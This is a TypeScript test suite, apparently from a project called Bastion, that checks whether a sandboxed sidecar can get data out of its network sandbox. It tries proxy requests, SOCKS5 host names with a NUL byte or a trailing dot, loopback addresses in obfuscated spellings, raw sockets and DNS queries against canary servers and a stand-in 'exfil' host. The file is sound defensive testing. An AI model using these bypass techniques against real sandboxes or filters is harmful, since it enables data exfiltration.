/**
 * Attack suite, egress bypasses (SEC-004 outer sandbox): each attack is made from INSIDE the
 * sandbox the sidecar runs in (the same srt launcher, wrap and policy builder, real bubblewrap),
 * by a probe that speaks the proxy protocols itself at srt's fixed relay ports (3128 and 1080, where
 * srt would start relays to its proxy), or goes around any proxy altogether. Bastion's wraps get no
 * route to srt's proxy (the `noProxyRoute` wrap option, patches/): no relay, no proxy variables, so
 * nothing listens on those ports and even the proxy's own checks are out of reach. Every attempt
 * fails, and the canary servers on the host's loopback (TCP and UDP, both on 127.0.0.1) never see
 * a byte. A control run of the same probe without the sandbox reaches both canaries, so the probe
 * can tell success from failure.
 */
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPrivateTempDir, type PrivateTempDir } from '../../src/sandbox/private-temp-dir.js';
import { acquireSrtSession, type SrtSession } from '../../src/sandbox/srt-session.js';
import { plainLauncher, type SidecarLauncher } from '../../src/supervisor/sidecar-launcher.js';
import { runSandboxProbe, srtProbeLauncher } from '../support/sandbox-probe.js';
import { makeTempDir, waitFor } from '@bastion/test-support';
import { describeAttack } from '../../../../test/support/attack.js';

const PROBE = fileURLToPath(new URL('./fixtures/egress-probe.mjs', import.meta.url));
/** TEST-NET-2: looks public, routes nowhere; only the sandbox's answer matters. */
const PUBLIC_LOOKING_IP = '198.51.100.7';
const UNLISTED_HOST = 'exfil.bastion-canary.example';

interface Outcome {
  ok: boolean;
  detail: string;
}
interface Ports {
  tcp: number;
  udp: number;
}
interface EgressAttack {
  attempt: (ports: Ports) => Record<string, unknown>;
  /** What the refusal looks like. */
  refusal: RegExp;
}

/** Nothing listens on srt's relay ports inside the sandbox: the connection to the proxy port is refused. */
const NO_PROXY_LISTENS = /^ECONNREFUSED$/;
const RESOLVER = /^nameserver\s+(\S+)/m.exec(readFileSync('/etc/resolv.conf', 'utf8'))?.[1] ?? '10.255.255.53';
const RESOLVER_ADDRESS = RESOLVER.includes(':') ? `[${RESOLVER}]:53` : `${RESOLVER}:53`;

/** The host loopback, spelled the ways URL parsers and resolvers disagree on. */
const LOOPBACK_SPELLINGS = [
  ['decimal', '2130706433'],
  ['octal', '0177.0.0.1'],
  ['hex', '0x7f000001'],
  ['IPv4-mapped IPv6', '[::ffff:127.0.0.1]'],
  ['short form', '127.1'],
] as const;

function httpGet(authority: string): Record<string, unknown> {
  return { kind: 'http-get', url: `http://${authority}/upload`, hostHeader: authority };
}

const ATTACKS: Record<string, EgressAttack> = {
  "plain HTTP through srt's HTTP proxy port to an unlisted host name is refused": {
    attempt: () => httpGet(UNLISTED_HOST),
    refusal: NO_PROXY_LISTENS,
  },
  "plain HTTP through srt's HTTP proxy port to the host loopback canary is refused": {
    attempt: (ports) => httpGet(`127.0.0.1:${ports.tcp}`),
    refusal: NO_PROXY_LISTENS,
  },
  'HTTP CONNECT to an unlisted host name is refused': {
    attempt: () => ({ kind: 'http-connect', authority: `${UNLISTED_HOST}:443` }),
    refusal: NO_PROXY_LISTENS,
  },
  'HTTP CONNECT to a public-looking IP literal is refused': {
    attempt: () => ({ kind: 'http-connect', authority: `${PUBLIC_LOOKING_IP}:443` }),
    refusal: NO_PROXY_LISTENS,
  },
  'HTTP CONNECT to the host loopback canary by IP literal is refused': {
    attempt: (ports) => ({ kind: 'http-connect', authority: `127.0.0.1:${ports.tcp}` }),
    refusal: NO_PROXY_LISTENS,
  },
  ...Object.fromEntries(
    LOOPBACK_SPELLINGS.flatMap(([spelling, host]) => [
      [
        `plain HTTP to the loopback canary spelled ${spelling} (${host}) is refused`,
        { attempt: (ports: Ports) => httpGet(`${host}:${ports.tcp}`), refusal: NO_PROXY_LISTENS },
      ],
      [
        `HTTP CONNECT to the loopback canary spelled ${spelling} (${host}) is refused`,
        {
          attempt: (ports: Ports) => ({ kind: 'http-connect', authority: `${host}:${ports.tcp}` }),
          refusal: NO_PROXY_LISTENS,
        },
      ],
    ]),
  ),
  'SOCKS5 to a host name with a NUL byte (127.0.0.1\\0.allowed.example) is refused': {
    attempt: (ports) => ({ kind: 'socks', atyp: 'domain', host: '127.0.0.1\u0000.allowed.example', port: ports.tcp }),
    refusal: NO_PROXY_LISTENS,
  },
  'SOCKS5 to a host name with a trailing dot (localhost.) is refused': {
    attempt: (ports) => ({ kind: 'socks', atyp: 'domain', host: 'localhost.', port: ports.tcp }),
    refusal: NO_PROXY_LISTENS,
  },
  'SOCKS5 to an unlisted host name with a trailing dot is refused': {
    attempt: () => ({ kind: 'socks', atyp: 'domain', host: `${UNLISTED_HOST}.`, port: 443 }),
    refusal: NO_PROXY_LISTENS,
  },
  'SOCKS5 to the host loopback canary by IPv4 address is refused': {
    attempt: (ports) => ({ kind: 'socks', atyp: 'ipv4', host: '127.0.0.1', port: ports.tcp }),
    refusal: NO_PROXY_LISTENS,
  },
  'SOCKS5 to the host loopback canary spelled decimal (2130706433) is refused': {
    attempt: (ports) => ({ kind: 'socks', atyp: 'domain', host: '2130706433', port: ports.tcp }),
    refusal: NO_PROXY_LISTENS,
  },
  'a raw TCP socket that ignores the proxy variables cannot reach the host loopback canary': {
    attempt: (ports) => ({ kind: 'tcp', host: '127.0.0.1', port: ports.tcp }),
    refusal: /^ECONNREFUSED$/,
  },
  'a raw TCP socket to the IPv4-mapped loopback (::ffff:127.0.0.1) cannot reach the canary': {
    attempt: (ports) => ({ kind: 'tcp', host: '::ffff:127.0.0.1', port: ports.tcp }),
    refusal: /^ECONNREFUSED$/,
  },
  'a raw TCP socket to a public-looking IP literal has no route': {
    attempt: () => ({ kind: 'tcp', host: PUBLIC_LOOKING_IP, port: 80 }),
    refusal: /^ENETUNREACH$/,
  },
  'getaddrinfo of a host name resolves nothing': {
    attempt: () => ({ kind: 'lookup', name: UNLISTED_HOST }),
    // EAI_AGAIN: no resolver reachable (outside, an unknown name would be ENOTFOUND).
    refusal: /^EAI_AGAIN$/,
  },
  "a DNS query over UDP to the system resolver's port 53 gets no answer": {
    attempt: () => ({ kind: 'dns-query', server: RESOLVER_ADDRESS, name: UNLISTED_HOST }),
    // Not ENOTFOUND: no answer at all came back.
    refusal: /^(ECONNREFUSED|ENETUNREACH)$/,
  },
  "a raw UDP datagram to the system resolver's port 53 has no route": {
    attempt: () => ({ kind: 'udp', host: RESOLVER, port: 53, payload: 'exfil' }),
    // A resolver on loopback (systemd-resolved) would be the sandbox's own, empty loopback.
    refusal: RESOLVER.startsWith('127.') ? /^sent$|^E[A-Z]+$/ : /^ENETUNREACH$/,
  },
  'a DNS query to a resolver on the host loopback (the UDP canary) never arrives': {
    attempt: (ports) => ({ kind: 'dns-query', server: `127.0.0.1:${ports.udp}`, name: UNLISTED_HOST }),
    refusal: /^E[A-Z]+$|^timeout$/,
  },
};

/** A sent datagram is no proof of delivery: the canary decides whether it arrived. */
const DATAGRAM = 'a UDP datagram to the host loopback canary never arrives (the loopback inside is the sandbox own)';

let session: SrtSession;
let root: string;
let temp: PrivateTempDir;
let tcpCanary: Server;
let udpCanary: UdpSocket;
let ports: Ports;
let outcomes: Record<string, Outcome>;
const reached: string[] = [];

async function runProbe(
  launcher: SidecarLauncher,
  attempts: Record<string, unknown>,
): Promise<Record<string, Outcome>> {
  return (await runSandboxProbe<Record<string, Outcome>>(launcher, PROBE, attempts)).result;
}

beforeAll(async () => {
  session = await acquireSrtSession();
  root = makeTempDir('bastion-egress-');
  temp = createPrivateTempDir();
  const layout = { home: join(root, 'home'), userData: join(root, 'user-data'), workspace: join(root, 'workspace') };
  for (const dir of Object.values(layout)) mkdirSync(dir, { recursive: true });
  const sandboxed = srtProbeLauncher(session, layout, temp.path);
  tcpCanary = createServer((socket) => {
    reached.push(`tcp from ${socket.remoteAddress}:${socket.remotePort}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcpCanary.listen(0, '127.0.0.1', resolve));
  udpCanary = createSocket('udp4', (message, from) => reached.push(`udp ${message.length} B from ${from.address}`));
  await new Promise<void>((resolve) => udpCanary.bind(0, '127.0.0.1', resolve));
  ports = { tcp: (tcpCanary.address() as { port: number }).port, udp: udpCanary.address().port };
  const attempts = Object.fromEntries(Object.entries(ATTACKS).map(([name, attack]) => [name, attack.attempt(ports)]));
  outcomes = await runProbe(sandboxed, {
    ...attempts,
    [DATAGRAM]: { kind: 'udp', host: '127.0.0.1', port: ports.udp, payload: 'exfil' },
  });
  // A stray packet lands after its sender returned: give it time before anyone looks.
  await new Promise((resolve) => setTimeout(resolve, 300));
}, 120_000);

afterAll(async () => {
  await new Promise<void>((resolve) => tcpCanary.close(() => resolve()));
  await new Promise<void>((resolve) => udpCanary.close(() => resolve()));
  temp.remove();
  rmSync(root, { recursive: true, force: true });
  await session.release();
});

describeAttack('egress-bypass', 'from inside the sidecar sandbox (srt proxy and network namespace)', () => {
  for (const [name, attack] of Object.entries(ATTACKS)) {
    it(name, () => {
      const outcome = outcomes[name];
      expect(outcome?.ok, outcome?.detail).toBe(false);
      expect(outcome?.detail).toMatch(attack.refusal);
      expect(reached).toEqual([]);
    });
  }

  it(DATAGRAM, () => {
    // The send itself may succeed: it lands on the sandbox's own loopback, where nobody listens.
    expect(outcomes[DATAGRAM]?.detail).toMatch(/^sent$|^E[A-Z]+$/);
    expect(reached).toEqual([]);
  });
});

describe('control: the same probe without the sandbox', () => {
  it('reaches the TCP and UDP canaries on the host loopback (so the probe can fail)', async () => {
    const before = reached.length;
    const control = await runProbe(plainLauncher, {
      tcp: { kind: 'tcp', host: '127.0.0.1', port: ports.tcp },
      udp: { kind: 'udp', host: '127.0.0.1', port: ports.udp, payload: 'exfil' },
    });
    expect(control.tcp).toEqual({ ok: true, detail: 'connected' });
    await waitFor(() => reached.length - before >= 2, 5_000, 'both canaries to be reached');
    expect(
      reached
        .slice(before)
        .map((entry) => entry.split(' ')[0])
        .sort(),
    ).toEqual(['tcp', 'udp']);
    reached.splice(before);
  });
});
